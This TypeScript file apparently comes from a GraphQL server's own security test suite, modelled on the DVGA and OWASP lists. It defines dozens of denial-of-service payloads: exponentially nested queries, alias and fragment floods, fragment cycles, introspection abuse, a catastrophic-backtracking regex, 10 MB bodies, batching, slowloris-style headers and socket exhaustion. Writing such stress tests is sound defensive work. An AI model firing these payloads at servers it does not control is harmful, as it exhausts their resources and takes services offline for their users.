import { getIntrospectionQuery } from 'graphql';

import { many, post, raw, send } from './send.ts';
import type { Outcome } from './send.ts';

export interface Attack {
  name: string;
  /** Sends it: how often each outcome came. */
  run: (url: string) => Promise<Map<Outcome, number>>;
}

const times = (count: number, part: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => part(at)).join(' ');
const TITLE = 'title(id: "tt0900001")';
/** Of pages: a page that differs is read anew. */
const OFFSETS = 300;

/** 168 bytes that stand for six million million rows. */
export const ENDLESS =
  '{titles(first:100){nodes{credits(first:500){nodes{person{credits(first:500){nodes{title{credits(first:500){nodes{person{credits(first:500){nodes{title{id}}}}}}}}}}}}}}}';
const SHORTER = ENDLESS.replace('{titles(first:100){nodes', '{titles{nodes').replaceAll('(first:500)', '');
/** As dear as is let through by default, more or less. */
const large = (seed: number): string =>
  `{ a${seed}: titles(first: 100, offset: ${seed % OFFSETS}) { nodes { id primaryTitle credits(first: 500) { nodes { characters person { id primaryName } } } } } }`;
export const deep = (seed: number): string =>
  `{ a${seed}: titles(first: 50, offset: ${seed % OFFSETS}) { nodes { credits(first: 20) { nodes { person { credits(first: 20) { nodes { title { id primaryTitle } } } } } } } } }`;
const known = (seed: number): string =>
  `{ a${seed}: titles(first: 100, offset: ${seed % OFFSETS}) { nodes { credits(first: 50) { nodes { person { knownFor { id primaryTitle genres } } } } } } }`;

function levels(count: number): string {
  return `{ ${TITLE} ${'{ credits { nodes { person { knownFor '.repeat(count)}{ id }${' } } } }'.repeat(count)} }`;
}

function doubling(count: number): string {
  const fragment = (at: number): string => {
    const next = at + 1 < count ? `...F${at + 1}` : 'id';
    const below = `credits { nodes { person { knownFor { ${next} } } } }`;
    return `fragment F${at} on Title { a: ${below} b: ${below} }`;
  };
  return `{ ${TITLE} { ...F0 } } ${times(count, fragment)}`;
}

/** Each bucket has the whole filter. */
function echoes(count: number): string {
  return `query($f: TitleFilter) { titles(filter: $f) { facets { ratingBucket { ${times(count, (at) => `a${at}: filter`)} } } } }`;
}

/** A hundred, by turns. */
function words(...some: string[]): string[] {
  return Array.from({ length: 100 }, (_, nth) => some[nth % some.length] ?? '');
}

function largeFilter(at: number): Record<string, unknown> {
  const types = { any: words('MOVIE', 'SHORT'), exclude: words('VIDEO_GAME') };
  const genres = { any: words('DRAMA', 'COMEDY'), exclude: words('ADULT') };
  return { f: { types, genres, votes: { min: at } } };
}

let seeds = 0;

/**
 * A document sent so many times at once. One that is answered is made of a seed, which is another for each request of the
 * process: the server keeps answers by their text.
 */
function documents(name: string, query: string | ((seed: number) => string), count = 20): Attack {
  const text = (): string => (typeof query === 'string' ? query : query((seeds += 1)));
  return { name, run: (url) => many(count, () => send(url, text())) };
}

/** After the lists of DVGA and OWASP, and what was found here. */
export const ATTACKS: readonly Attack[] = [
  documents('nested pages of 168 bytes', ENDLESS, 50),
  documents('nested default pages', SHORTER, 50),
  {
    name: 'nested pages whose clients leave',
    run: (url) => many(50, (at) => send(url, large((seeds += 1)), { leaveAfterMs: 20 + 10 * at })),
  },
  documents('circles of types', levels(20)),
  documents('a thousand aliases of a title', `{ ${times(1000, (at) => `a${at}: ${TITLE} { id }`)} }`),
  documents(
    'a hundred aliases of a list',
    (seed) =>
      `{ ${times(90, (at) => `a${seed}_${at}: titles(first: 5, offset: ${(90 * seed + at) % 900}) { nodes { id } }`)} }`,
    10,
  ),
  documents(
    'aliases of searches',
    (seed) => `{ ${times(60, (at) => `a${at}: search(query: "the ${seed} ${at}") { nodes { score } }`)} }`,
    10,
  ),
  documents(
    'aliases of facets',
    (seed) =>
      `{ ${times(8, (at) => `a${at}: titles(filter: { votes: { min: ${seed * 8 + at} } }) { totalCount facets { genre { count } akaRegion { count } decade { count } } }`)} }`,
    10,
  ),
  documents(
    'aliases of careers',
    (seed) =>
      `{ ${times(9, (at) => `a${seed}_${at}: careers(category: ACTOR, minTitles: ${1 + ((seed * 9 + at) % 90)}) { nodes { titles } }`)} }`,
    10,
  ),
  documents(
    'aliases of all episodes, sorted',
    (seed) =>
      `{ title(id: "tt0900100") { ... on Series { ${times(300, (at) => `a${seed}_${at}: episodes(first: 500, orderBy: [{ field: RATING }]) { nodes { id } }`)} } } }`,
  ),
  documents('a field 1,100 times', `{ ${TITLE} { ${times(1100, () => 'id')} } }`),
  documents('a field 4,000 times', `{ ${TITLE} { ${times(4000, () => 'id')} } }`),
  documents('fields twice at each of ten levels', (seed) => {
    const twice = times(40, (at) => `k${seed}_${at}: id k${seed}_${at}: id`);
    return `{ ${TITLE} ${`{ ${twice} credits(first: 1) { nodes { title `.repeat(10)}{ id }${' } } }'.repeat(10)} }`;
  }),
  documents(
    'a field twice at each of 90 levels, by fragments',
    (seed) =>
      `{ t${seed}: __type(name: "A") { ...F0 } } ${times(90, (at) => `fragment F${at} on __Type { a: ofType { ...F${at + 1} } a: ofType { name ...F${at + 1} } }`)} fragment F90 on __Type { name }`,
  ),
  documents('directives', `{ ${TITLE} { id ${times(1500, () => '@include(if: true)')} } }`),
  documents('unknown directives', `{ ${TITLE} { id ${times(2500, (at) => `@x${at}`)} } }`),
  documents('unknown fields', `{ ${TITLE} { ${times(4000, (at) => `titl${at}`)} } }`),
  documents('fragments that double', doubling(24)),
  documents(
    'fragments in a chain of 500',
    `{ ${TITLE} { ...F0 } } ${times(499, (at) => `fragment F${at} on Title { id ...F${at + 1} }`)} fragment F499 on Title { id }`,
  ),
  documents(
    'fragments in a chain of 1,000',
    `{ ${TITLE} { ...F0 } } ${times(1000, (at) => `fragment F${at} on Title { id ...F${at + 1} }`)} fragment F1000 on Title { id }`,
  ),
  documents(
    'fragments in a circle',
    `{ ${TITLE} { ...F0 } } ${times(400, (at) => `fragment F${at} on Title { ...F${(at + 1) % 400} }`)}`,
  ),
  documents(
    'fragments that overlap',
    (seed) =>
      `{ a${seed}: ${TITLE} { ${times(40, (at) => `...F${at}`)} } } ${times(40, (at) => `fragment F${at} on Title { ${times(80, (key) => `k${key}: id`)} }`)}`,
  ),
  documents('introspection', (seed) => getIntrospectionQuery().replace('__schema', `s${seed}: __schema`), 50),
  documents(
    'introspection 200 times in one document',
    (seed) => `{ ${times(200, (at) => `a${seed}_${at}: __schema { types { name fields { name type { name } } } }`)} }`,
  ),
  documents(
    'introspection in circles',
    `{ __schema { types ${'{ fields { type '.repeat(8)}{ name }${' } }'.repeat(8)} } }`,
  ),
  documents(
    'regular expressions',
    (seed) => `{ titles(filter: { primaryTitle: { matches: "(a+)+${seed}$" } }) { totalCount } }`,
    10,
  ),
  documents(
    'a large filter, echoed by facets',
    (seed) =>
      `{ a${seed}: titles(filter: { akaRegions: { any: [${times(100, () => '"DE"')}] } }) { facets { ${times(20, (at) => `a${at}: decade { filter }`)} } } }`,
    10,
  ),
  {
    name: 'a filter of 4 kB, echoed 3,000 times',
    run: (url) => many(6, (at) => send(url, echoes(3000), { variables: largeFilter(at) })),
  },
  {
    name: 'a filter of 4 kB, echoed as often as is let through',
    run: (url) => many(6, (at) => send(url, echoes(600), { variables: largeFilter(at) })),
  },
  {
    name: 'echoes of filters that nobody reads',
    run: (url) => many(40, (at) => raw(url, requestOf(echoes(600), largeFilter(at)), { ms: 4000, read: false })),
  },
  {
    name: 'a value of 70 kB that is wrong in 60 places',
    run: (url) =>
      many(20, () => {
        const wrong = Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`x${at}`, 'x'.repeat(1100)]));
        return send(url, echoes(1), { variables: { f: wrong } });
      }),
  },
  documents('20,000 braces', '{'.repeat(20_000)),
  documents('lists in lists', `{ titlesByIds(ids: ${'['.repeat(2000)}${']'.repeat(2000)}) { id } }`),
  documents('ten thousand ids', `{ titlesByIds(ids: [${times(3000, () => '"tt0900001"')}]) { id } }`),
  {
    name: 'bodies of 90 kB',
    run: (url) =>
      many(50, () => post(url, JSON.stringify({ query: '{ __typename }', variables: { x: 'x'.repeat(90_000) } }))),
  },
  { name: 'bodies of 10 MB', run: (url) => many(10, () => post(url, 'x'.repeat(10_000_000))) },
  {
    name: 'batches',
    run: (url) =>
      many(20, () => post(url, JSON.stringify(Array.from({ length: 100 }, () => ({ query: '{ __typename }' }))))),
  },
  documents('large answers, 30 at once', large, 30),
  documents('deep answers, 30 at once', deep, 30),
  documents('what people are known for, 30 at once', known, 30),
  documents('a thousand small queries at once', (seed) => `{ a${seed}: ${titleOf(seed)} { id primaryTitle } }`, 1000),
  documents(
    'a thousand of 3,900 points',
    (seed) =>
      `{ a${seed}: ${titleOf(seed)} { credits(first: 25) { nodes { category job characters person { id primaryName knownFor { id primaryTitle } } } } } }`,
    1000,
  ),
  documents(
    'a thousand of 39,000 points',
    (seed) =>
      `{ a${seed}: titles(first: 80, offset: ${seed % OFFSETS}) { nodes { id primaryTitle cast(first: 20) { nodes { characters person { id primaryName birthYear } } } } } }`,
    1000,
  ),
  {
    name: 'a thousand requests on one socket',
    run: (url) =>
      many(1, () =>
        raw(url, 'GET /graphql?query={__typename} HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(1000), { ms: 3000, read: true }),
      ),
  },
  {
    name: 'heads that never end',
    run: (url) => many(300, () => raw(url, 'POST /graphql HTTP/1.1\r\nhost: x\r\nx-slow: ', { ms: 3000, read: true })),
  },
  {
    name: 'answers that nobody reads',
    run: (url) => many(20, () => raw(url, largeRequest(), { ms: 4000, read: false })),
  },
  { name: 'sockets beyond the most', run: (url) => many(2500, () => raw(url, '', { ms: 1500, read: true })) },
  {
    name: 'two hosts',
    run: (url) =>
      many(20, () =>
        raw(url, 'GET /graphql?query={__typename} HTTP/1.1\r\nhost: a\r\nhost: b\r\nconnection: close\r\n\r\n', {
          ms: 20_000,
          read: true,
        }),
      ),
  },
];

function titleOf(seed: number): string {
  return `title(id: "tt09${String(seed % 30_000).padStart(5, '0')}")`;
}

function largeRequest(): string {
  return requestOf(large((seeds += 1)));
}

function requestOf(query: string, variables: Record<string, unknown> = {}): string {
  const body = JSON.stringify({ query, variables });
  return `POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`;
}
